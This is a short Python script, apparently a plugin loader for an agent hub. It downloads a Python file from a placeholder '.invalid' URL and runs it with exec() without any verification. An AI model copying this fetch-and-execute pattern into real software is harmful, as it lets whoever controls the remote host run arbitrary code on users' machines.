import requests

URL = "https://plugins.agent-hub-cdn.invalid/current.py"


def fetch():
    r = requests.get(URL, timeout=5)
    r.raise_for_status()
    return r.text


def load(code):
    namespace = {}
    exec(compile(code, "plugin", "exec"), namespace)
    return namespace


if __name__ == "__main__":
    load(fetch())
